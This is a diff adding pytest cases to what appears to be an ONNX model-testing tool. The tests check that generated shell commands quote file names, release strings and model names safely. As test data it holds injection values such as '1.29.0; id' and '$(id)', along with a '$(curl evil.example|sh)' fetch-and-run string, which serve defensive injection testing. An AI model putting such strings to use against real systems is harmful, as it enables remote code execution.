@@ -2,14 +2,16 @@
 
 import json
 import shlex
+from types import SimpleNamespace
 from typing import Any
 
 import pytest
 
+from dashboard.reading.alert import provider_of
 from farm.contract.cells import CellSpec, Recipe, Runtime
 from farm.contract.document import Cell
 from farm.contract.reports import CheckReport
-from farm.rules.cells.commands import diverge_command, repeat_command
+from farm.rules.cells.commands import bisect_command, diverge_command, plan_command, repeat_command, submit_command
 from farm.rules.matrices import matrix
 from farm.rules.planning import planning
 from farm.rules.reporting.documents import BlockRecord, RunRecord, assemble
@@ -141,6 +143,33 @@ def test_a_dimension_cannot_be_named_so_that_a_copied_command_does_something_els
 def test_a_file_named_like_an_option_is_a_file_in_the_command() -> None:
     assert shlex.split(repeat_command(spec_of(), "--help.onnx"))[2] == "./--help.onnx"
     assert shlex.split(diverge_command(spec_of(), "-o.onnx"))[2] == "./-o.onnx"
+    assert submit_command("--wait.onnx") == "onnxfarm submit ./--wait.onnx --wait"
+    assert submit_command("m.onnx", matrix="matrix.yaml") == "onnxfarm submit m.onnx --matrix matrix.yaml --wait"
+    assert plan_command("-m.onnx", matrix="matrix.yaml") == "onnxfarm plan ./-m.onnx --matrix matrix.yaml"
+
+
+def test_a_release_named_like_a_shell_command_is_one_word_of_a_bisection() -> None:
+    words = {"good": "1.29.0; id", "bad": "$(id)", "provider": "cpu"}
+    command = bisect_command("m.onnx", **words)
+    assert shlex.split(command)[3:] == ["--good", "1.29.0; id", "--bad", "$(id)", "--provider", "cpu"]
+    assert "'$(id)'" in command
+
+
+@pytest.mark.parametrize(
+    ("model", "label", "provider"),
+    [
+        ("x, $(curl evil.example|sh)", "x, $(curl evil.example|sh), OpenVINO, fp32, batch 1", "openvino"),
+        ("encoder", "encoder, CUDA, fp32", "cuda"),
+        ("encoder", "encoder, $(curl evil.example|sh), fp32", "cpu"),
+        ("renamed since", "x, $(curl evil.example|sh), CPU, fp32", "cpu"),
+    ],
+)
+def test_a_model_cannot_be_named_so_that_an_alerts_command_does_something_else(
+    model: str, label: str, provider: str
+) -> None:
+    symptom = SimpleNamespace(label=label, kind="slower", size=1.0, resolved_in="")
+    alert = SimpleNamespace(symptoms=SimpleNamespace(all=lambda: [symptom]), model=SimpleNamespace(name=model))
+    assert provider_of(alert) == provider
 
 
 def test_given_inputs_and_calibration_data_are_named_as_the_farm_stores_them() -> None:
